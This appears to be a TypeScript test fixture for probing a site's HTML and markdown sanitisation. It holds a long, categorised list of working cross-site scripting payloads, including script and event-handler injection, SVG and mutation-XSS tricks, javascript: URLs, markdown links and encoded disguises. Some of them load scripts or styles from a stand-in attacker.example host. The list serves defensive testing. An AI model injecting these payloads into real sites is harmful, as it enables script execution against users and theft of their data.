/** Addresses that run a script or ask another host where a page lets them stand as they are. */
const addresses: readonly string[] = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  'java\tscript:ran()',
  '&#106;avascript&colon;ran()',
  'java&Tab;script:ran()',
  '%6Aavascript:ran()',
  '\u0001javascript:ran()',
  'javascript://docs.example/%0Aran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,<script>ran()</script>',
  'vbscript:ran()',
  'feed:javascript:ran()',
  '//attacker.example/x.js',
  '/\\attacker.example/x.js',
];

/**
 * Known ways to get a script into a page, or a request to another host out of it. Each calls `ran()` or asks
 * `attacker.example`. Sorted by what they lean on; those that could swallow what follows them stand last in their group.
 */
const templates: readonly string[] = [
  // Script elements
  '<script>ran()</script>',
  '<ScRiPt>ran()</sCrIpT>',
  '<script src=https://attacker.example/x.js></script>',
  '<script src="data:text/javascript,ran()"></script>',
  '<script type=module>ran()</script>',
  '<script/x>ran()</script>',
  '<<script>ran();//<</script>',
  '</title><script>ran()</script>',
  '</textarea><script>ran()</script>',
  '</script><script>ran()</script>',
  '--><script>ran()</script>',
  '<!--><script>ran()</script>-->',
  '<!-- --!><script>ran()</script> -->',
  '<noscript><p title="</noscript><script>ran()</script>">',
  // Event handlers
  '<img src=x onerror=ran()>',
  '<img/src=x/onerror=ran()>',
  '<IMG SRC=x OnErRoR="ran()">',
  '<img src=x onerror="&#114;an()">',
  '<details open ontoggle=ran()>x</details>',
  '<kbd tabindex=0 autofocus onfocus=ran()>x</kbd>',
  '<body onload=ran()>',
  '<input autofocus onfocus=ran()>',
  '<video src=x onerror=ran()></video>',
  '<audio src onloadstart=ran()></audio>',
  '<marquee onstart=ran()>x</marquee>',
  '<div style="animation:x" onanimationstart=ran()>x</div>',
  '<site-island name=Search wake=load onload=ran()></site-island>',
  '<img src onerror = ran() //',
  // SVG
  '<svg onload=ran()></svg>',
  '<svg/onload=ran()//',
  '<svg><script>ran()</script></svg>',
  '<svg><script href="https://attacker.example/x.js"/></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>',
  '<svg><use href="https://attacker.example/x.svg#x"/></svg>',
  '<svg><set attributeName=href to=javascript:ran()></svg>',
  ...addresses,
  // Frames, forms and links
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src=javascript:parent.ran()></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="https://attacker.example/x.svg">',
  '<base href="https://attacker.example/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<form action=javascript:ran()><button>x</button></form>',
  '<button formaction=javascript:ran()>x</button>',
  '<link rel=stylesheet href=https://attacker.example/x.css>',
  // Styles
  '<style>@import "https://attacker.example/x.css";</style>',
  '<p style="background:url(https://attacker.example/x)">x</p>',
  '<div style="width:expression(ran())">x</div>',
  // Markup that changes its meaning when it is read twice
  '<template><script>ran()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">',
  '<xmp><p title="</xmp><img src=x onerror=ran()>">',
  // Ways out of an attribute
  '" onmouseover=ran() autofocus onfocus=ran() x="',
  "' tabindex=0 autofocus onfocus=ran() x='",
  '` autofocus onfocus=ran() x=`',
  '"><img src=x onerror=ran()>',
  "'><svg onload=ran()>",
  '</code></pre><img src=x onerror=ran()>',
  '<details open=b"open"open="><a href=javascript:ran()>x</a>">',
  'site:/" autofocus onfocus=ran() x="',
  // Markdown
  '[x](javascript:ran())',
  '[x](<java\tscript:ran()>)',
  '![x](javascript:ran())',
  '![x](https://attacker.example/x.png)',
  '![x](x "\\" onerror=ran() \\"")',
  '<javascript:ran()>',
  '[attack]: javascript:ran() "x"',
  ']( javascript:ran() )[',
  '`<img src=x onerror=ran()>`',
  '<https://docs.example/"onmouseover="ran()>',
  '{.x onclick="ran()"}',
  '{ran()}',
  // Disguises
  '&lt;img src=x onerror=ran()&gt;',
  '&#x3C;img src=x onerror=ran()&#x3E;',
  '%3Cimg%20src=x%20onerror=ran()%3E',
  '\uFF1Cimg src=x onerror=ran()\uFF1E',
  '\u202E<script>ran()</script>',
  '\u2028<script>ran()</script>',
  '\\u003cimg src=x onerror=ran()\\u003e',
  "{{constructor.constructor('ran()')()}}",
];

/** Each attack with a number of its own in it, so that many can stand on one page and whatever happens names its attack. */
export const attacks: readonly string[] = templates.map(addNumber);

/** Those that work only where a text begins with them. */
export const addressAttacks: readonly string[] = attacks.filter((_, number) =>
  addresses.includes(templates[number] ?? ''),
);

/** The attack whose `ran(…)` was called. */
export const attackOfCall = (number: number): string => attacks[number] ?? `attack ${number}`;

/** The attack that asked a host for something; null for any host that is not an attacker's. */
export function attackOfHost(host: string): string | null {
  const [, number] = /^(?:a(\d+)\.)?attacker\.example$/.exec(host) ?? [null, null];
  if (number === null) return null;
  return number === undefined ? host : attackOfCall(Number(number));
}

/**
 * Packs attacks into as few texts as fit, for places that show one text on each page.
 * @param longest Letters that a text may have, with the spaces between its attacks.
 */
export function packAttacks(longest: number, some: readonly string[] = attacks): string[] {
  const packs: string[] = [];
  for (const attack of some) {
    const packed = `${packs.at(-1)} ${attack}`;
    if (packs.length > 0 && packed.length <= longest) packs[packs.length - 1] = packed;
    else packs.push(attack);
  }
  return packs;
}

function addNumber(template: string, number: number): string {
  const numbered = template
    .replaceAll('an()', `an(${number})`)
    .replaceAll('attacker.example', `a${number}.attacker.example`);
  const [scheme = '', content] = numbered.split(';base64,');
  return content === undefined ? numbered : `${scheme};base64,${btoa(content)}`;
}
